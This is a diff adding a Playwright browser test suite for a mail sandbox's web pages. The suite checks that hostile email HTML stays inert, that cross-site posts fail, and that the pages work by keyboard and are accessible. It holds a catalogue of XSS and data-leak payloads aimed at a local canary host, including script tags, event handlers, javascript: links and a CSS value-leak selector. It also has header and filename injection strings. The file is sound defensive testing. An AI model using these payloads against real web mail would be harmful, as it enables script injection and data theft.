@@ -1,0 +1,331 @@
+"""The page in a browser: its functions, what hostile mail can do in it, and how accessible it is."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import shutil
+from importlib import import_module
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from directsuite.sandbox.messaging import mailboxes
+from directsuite.sandbox.page import site
+from directsuite.sandbox.samples import ALICE
+from tests.sandbox.page.conftest import CREDENTIALS
+
+if TYPE_CHECKING:
+    from collections.abc import AsyncIterator
+
+    import aiohttp
+    from playwright.async_api import Browser, Page
+
+    from directsuite.sandbox.server import Sandbox
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(CHROMIUM is None, reason="Chromium isn't installed"),
+]
+pytest.importorskip("playwright", reason="playwright isn't installed")
+
+HOSTILE = """
+<html><head>
+<title>x</title><base href="http://canary.test/base/">
+<meta http-equiv="refresh" content="0;url=http://canary.test/refresh">
+<link rel="stylesheet" href="http://canary.test/sheet.css">
+<link rel="preconnect" href="http://canary.test"><link rel="dns-prefetch" href="http://canary.test">
+<link rel="prefetch" href="http://canary.test/prefetch"><link rel="icon" href="http://canary.test/icon">
+<link rel="preload" as="image" href="http://canary.test/preload"><link rel="manifest" href="http://canary.test/m">
+<style>
+@import url("http://canary.test/import.css");
+@font-face { font-family: f; src: url("http://canary.test/font"); }
+body { background: url("http://canary.test/background"); font-family: f; cursor: url("http://canary.test/c"), auto; }
+input[value^="s"] { background: url("http://canary.test/leak?s"); }
+</style>
+<script>alert(1); parent.document.title = "taken"; top.location = "http://canary.test/top"</script>
+<script src="http://canary.test/script.js"></script>
+</head><body onload="alert(2)">
+<img src="http://canary.test/img" onerror="alert(3)"><img srcset="http://canary.test/srcset 1x">
+<svg onload="alert(4)"><image href="http://canary.test/svg"/><script>alert(5)</script>
+<use href="http://canary.test/use#x"/><animate onbegin="alert(6)" attributeName="x" dur="1s"/>
+<foreignObject><iframe src="http://canary.test/foreign"></iframe></foreignObject></svg>
+<iframe src="http://canary.test/frame"></iframe><iframe srcdoc="<script>alert(7)</script>"></iframe>
+<object data="http://canary.test/object"></object><embed src="http://canary.test/embed">
+<video src="http://canary.test/video" poster="http://canary.test/poster" autoplay></video>
+<audio src="http://canary.test/audio" autoplay></audio>
+<form action="http://canary.test/form" method="post" target="_top"><input name="a" value="secret" autofocus>
+<button id="button">Go on</button></form>
+<p><a id="link" href="http://canary.test/link" ping="http://canary.test/ping">a link</a>
+<a id="top" href="http://canary.test/top" target="_top">another</a>
+<a id="script" href="javascript:alert(8)">a third</a>
+<a id="self" href="/page/do/POST/reset">a fourth</a></p>
+<p style="position: fixed; inset: 0; background-image: url(http://canary.test/inline)">text</p>
+</body></html>
+"""
+
+
+class Canary:
+    """A server that counts who comes."""
+
+    def __init__(self) -> None:
+        self.visits = list[bytes]()
+        self.port = 0
+
+    async def visited(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        """Note a visit, even one that says nothing."""
+        place = len(self.visits)
+        self.visits.append(b"a connection")
+        with contextlib.suppress(ConnectionError):
+            self.visits[place] = await reader.readline()
+            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+            await writer.drain()
+        writer.close()
+
+
+@pytest.fixture
+async def canary() -> AsyncIterator[Canary]:
+    canary = Canary()
+    server = await asyncio.start_server(canary.visited, "127.0.0.1", 0)
+    canary.port = server.sockets[0].getsockname()[1]
+    async with server:
+        yield canary
+
+
+@pytest.fixture
+async def browser(canary: Canary) -> AsyncIterator[Browser]:
+    """Chromium, to which every name but this machine's address leads to the canary."""
+    from playwright.async_api import async_playwright
+
+    rules = f"--host-resolver-rules=MAP canary.test:80 127.0.0.1:{canary.port}, EXCLUDE 127.0.0.1"
+    async with async_playwright() as playwright:
+        launched = await playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", rules])
+        yield launched
+        await launched.close()
+
+
+class Watched:
+    """A tab, and what it complained of."""
+
+    def __init__(self, page: Page, sandbox: Sandbox) -> None:
+        self.page, self.root = page, sandbox.root_url
+        page.set_default_timeout(10_000)
+        self.complaints = list[str]()
+        page.on("console", lambda message: self.complaints.append(f"{message.type}: {message.text}"))
+        page.on("pageerror", lambda error: self.complaints.append(str(error)))
+
+    async def open(self, path: str) -> None:
+        """Go to a view."""
+        answer = await self.page.goto(f"{self.root}{path}")
+        assert answer is not None
+        assert answer.status == 200
+
+
+@pytest.fixture
+async def tab(browser: Browser, filled: Sandbox) -> Watched:
+    return Watched(await browser.new_page(), filled)
+
+
+async def message_of(sandbox: Sandbox, html: str) -> str:
+    """The path of a message with this HTML."""
+    raw = "From: evil@canary.test\r\nSubject: hostile\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
+    uid = await sandbox.deliver(ALICE, (raw + html).encode())
+    folder = await sandbox.read(lambda connection: mailboxes.folder_id(connection, 1, "INBOX"))
+    return f"/page/mail/{ALICE}/{folder}/{uid}"
+
+
+async def test_the_canary_would_tell(browser: Browser, canary: Canary) -> None:
+    page = await browser.new_page()
+    await page.goto("http://canary.test/seen")
+    assert b"GET /seen HTTP/1.1\r\n" in canary.visits
+
+
+@pytest.mark.parametrize("neutralised", [True, False], ids=["as it is served", "by sandbox and policy alone"])
+async def test_hostile_mail_runs_nothing_and_leaves_nothing(
+    neutralised: bool, filled: Sandbox, tab: Watched, canary: Canary, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    html = HOSTILE
+    if not neutralised:  # what a policy does not cover is left out: names and connections in advance
+        monkeypatch.setattr(site, "neutral_html", str)
+        html = html.replace('rel="preconnect"', "").replace('rel="dns-prefetch"', "")
+    dialogs = list[str]()
+    tab.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
+    path = await message_of(filled, html)
+    for name in ("link", "top", "script", "self", "button"):
+        await tab.open(path)
+        frame = tab.page.frames[1]
+        await frame.wait_for_load_state("networkidle")
+        await frame.locator(f"#{name}").dispatch_event("click")
+        await tab.page.wait_for_load_state("networkidle")
+    assert (tab.page.url, await tab.page.title()) == (f"{tab.root}{path}", "hostile · directsuite sandbox")
+    assert dialogs == []
+    assert len(tab.page.context.pages) == 1
+    # A browser may open a connection to where a link leads before a policy forbids it to go there.
+    assert set(canary.visits) <= (set() if neutralised else {b"", b"a connection"})
+
+
+async def test_hostile_names_are_text(filled: Sandbox, tab: Watched, canary: Canary) -> None:
+    dialogs = list[str]()
+    tab.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
+    hostile = "<img src=http://canary.test/x onerror=alert(1)>'\"><svg onload=alert(2)>"
+    raw = (
+        f"From: {hostile}\r\nSubject: {hostile}\r\nMIME-Version: 1.0\r\n"
+        "Content-Type: multipart/mixed; boundary=q\r\n\r\n"
+        f"--q\r\n\r\n{hostile}\r\n--q\r\nContent-Type: text/html\r\n"
+        f"Content-Disposition: attachment; filename*=utf-8''%3Cimg%20src=http://canary.test/x%3E.html\r\n\r\n"
+        f"<script>alert(3)</script>\r\n--q--\r\n"
+    )
+    uid = await filled.deliver(ALICE, raw.encode())
+    folder = await filled.read(lambda connection: mailboxes.folder_id(connection, 1, "INBOX"))
+    own = f"/page/mail/{ALICE}/{folder}/{uid}"
+    for path in (f"/page/mail/{ALICE}", own, f"{own}/raw"):
+        await tab.open(path)
+    await tab.open(own)
+    async with tab.page.expect_download() as download:
+        await tab.page.get_by_role("link", name="img src").click()
+    assert "/" not in (await download.value).suggested_filename
+    assert (dialogs, canary.visits, tab.complaints) == ([], [], [])
+
+
+async def test_another_page_changes_nothing(filled: Sandbox, tab: Watched, browser: Browser) -> None:
+    filled.clock.freeze()
+    before = filled.clock.now()
+    other = await browser.new_page()
+    await other.goto("http://canary.test/")
+    await other.set_content(
+        f"<form method=post action='{filled.root_url}/page/do/POST/clock/advance'><input name=seconds value=60>"
+        f"<button>x</button></form><iframe src='{filled.root_url}/'></iframe>"
+    )
+    assert await other.evaluate(
+        "url => fetch(url, {method: 'POST', mode: 'no-cors'}).then(a => a.type, () => 'refused')", tab.root
+    ) in {"opaque", "refused"}
+    await other.get_by_role("button").click()
+    await other.wait_for_url("**/advance")
+    assert "does not work" in await other.content()
+    assert filled.clock.now() == before
+
+
+async def test_messages_are_found_and_read_by_keys(filled: Sandbox, tab: Watched) -> None:
+    await tab.open(f"/page/mail/{ALICE}")
+    keys, page = tab.page.keyboard, tab.page
+    await keys.press("/")
+    await keys.type("count, rep")
+    await page.wait_for_url("**q=count**")
+    await page.locator("#live tbody tr:only-child").wait_for()
+    await keys.press("Escape")
+    await keys.press("j")
+    await keys.press("Enter")
+    await page.get_by_role("heading", name="Blood count, repeated").wait_for()
+    async with page.expect_download() as download:
+        await page.get_by_role("link", name="count.csv").click()
+    assert (await download.value).suggested_filename == "count.csv"
+    await page.get_by_text("All headers").click()
+    await page.get_by_text("Message-ID", exact=True).wait_for()
+    await keys.press("u")
+    await page.get_by_role("heading", name=ALICE).wait_for()
+    assert tab.complaints == []
+
+
+async def test_what_happens_is_shown_as_it_happens(filled: Sandbox, tab: Watched, http: aiohttp.ClientSession) -> None:
+    page = tab.page
+    await tab.open("/page/calls")
+    async with page.expect_response("**/page/calls"):
+        await http.post(f"{filled.message_url}/GetMessageCount/INBOX", json=CREDENTIALS)
+    await page.get_by_role("link", name="GetMessageCount").click()
+    await page.get_by_text('"password": "•••"').wait_for()
+    await tab.open(f"/page/mail/{ALICE}")
+    await filled.deliver(ALICE, b"From: a@b.test\r\nSubject: just now\r\n\r\n")
+    await page.get_by_role("link", name="just now").wait_for()
+    assert tab.complaints == []
+
+
+async def test_a_message_is_confirmed_and_fails(filled: Sandbox, sent: str, tab: Watched) -> None:
+    filled.clock.freeze()
+    await tab.open("/page/sent")
+    page = tab.page
+    await page.get_by_role("button", name="Confirm now: slow").click()
+    await page.get_by_text("Set by the control API").wait_for()
+    await page.get_by_role("button", name="Fail: slow").click()
+    await page.get_by_text("Remotely Failed").wait_for()
+    assert tab.complaints == []
+
+
+async def test_everything_is_controlled(filled: Sandbox, tab: Watched) -> None:
+    page = tab.page
+    await tab.open("/page/controls")
+    await page.get_by_role("button", name="Stop it").click()
+    await page.get_by_role("button", name="Let it go on").wait_for()
+    stopped = filled.clock.now()
+    await page.get_by_role("button", name="+1 hour").click()
+    await page.wait_for_load_state()
+    assert (filled.clock.now() - stopped).total_seconds() == 3600
+    await page.locator("select[name=operation]").select_option("Send")
+    await page.locator("select[name=kind]").select_option("reset_after")
+    await page.get_by_role("button", name="Switch on").click()
+    await page.get_by_role("button", name="Switch off fault").wait_for()
+    assert filled.faults()[0]["kind"] == "reset_after"
+    await page.get_by_role("button", name="Switch off fault").click()
+    await page.get_by_text("Nothing goes wrong.").wait_for()
+    form = page.get_by_role("form", name="Add a mailbox")
+    await form.get_by_label("Mailbox").fill("carol@direct.example.test")
+    await form.get_by_label("Password").fill("secret")
+    await form.get_by_role("button").click()
+    await tab.open("/")
+    await page.get_by_role("link", name="carol@direct.example.test").wait_for()
+    await tab.open("/page/controls")
+    await page.get_by_text("Forget everything").click()
+    await page.get_by_role("button", name="Reset the sandbox").click()
+    await page.wait_for_load_state()
+    await tab.open("/")
+    assert await page.get_by_role("link", name="carol@direct.example.test").count() == 0
+    assert tab.complaints == []
+
+
+async def test_faxes_and_patients_are_added_and_changed(filled: Sandbox, provisioned: str, tab: Watched) -> None:
+    page = tab.page
+    await tab.open("/page/faxes")
+    await page.get_by_text("Add a fax").click()
+    await page.get_by_label("Number", exact=True).fill("15550100177")
+    await page.get_by_role("button", name="Add", exact=True).click()
+    await page.get_by_role("cell", name="15550100177").first.wait_for()
+    await page.get_by_role("row", name="15550100177").get_by_role("button").click()
+    await page.get_by_role("row", name="15550100177").locator(".state", has_text="waiting").wait_for()
+    await tab.open("/page/patients")
+    await page.get_by_role("combobox", name=f"State of {provisioned}").select_option("disabled")
+    await page.get_by_role("button", name=f"Set the state of {provisioned}").click()
+    await page.locator(".state", has_text="disabled").wait_for()
+    await page.get_by_role("button", name="End all sessions").click()
+    await page.get_by_text("No session is open.").wait_for()
+    assert tab.complaints == []
+
+
+async def test_documents_are_drawn(filled: Sandbox, signed: str, tab: Watched) -> None:
+    await tab.open(f"/page/documents/{signed}")
+    picture = tab.page.get_by_alt_text("Page 1 as it is drawn")
+    await picture.scroll_into_view_if_needed()
+    assert await picture.evaluate("picture => picture.decode().then(() => picture.naturalWidth)") == 1000
+    await tab.page.get_by_role("cell", name="valid").first.wait_for()
+    assert tab.complaints == []
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 390])
+async def test_the_page_is_accessible(
+    scheme: Any, width: int, filled: Sandbox, sent: str, signed: str, provisioned: str, browser: Browser
+) -> None:
+    axe = import_module("axe_playwright_python.async_playwright").Axe()
+    filled.inject_fault("Send", "hang")
+    page = await browser.new_page(color_scheme=scheme, viewport={"width": width, "height": 844})
+    views = ["/", f"/page/mail/{ALICE}", "/page/sent", "/page/calls", "/page/calls/1", "/page/documents", "/page/faxes"]
+    views += [f"/page/documents/{signed}", "/page/patients", "/page/effects", "/page/controls", "/docs"]
+    views += [f"/page/mail/{ALICE}?folder=INBOX.Sent", await message_of(filled, "<p>text</p>")]
+    trouble = dict[str, Any]()
+    for view in views:
+        await page.goto(f"{filled.root_url}{view}")
+        found = await axe.run(page)
+        if found.violations_count:
+            trouble[view] = found.generate_report()
+        if await page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth"):
+            trouble[f"{view} is too wide"] = width
+    assert trouble == {}
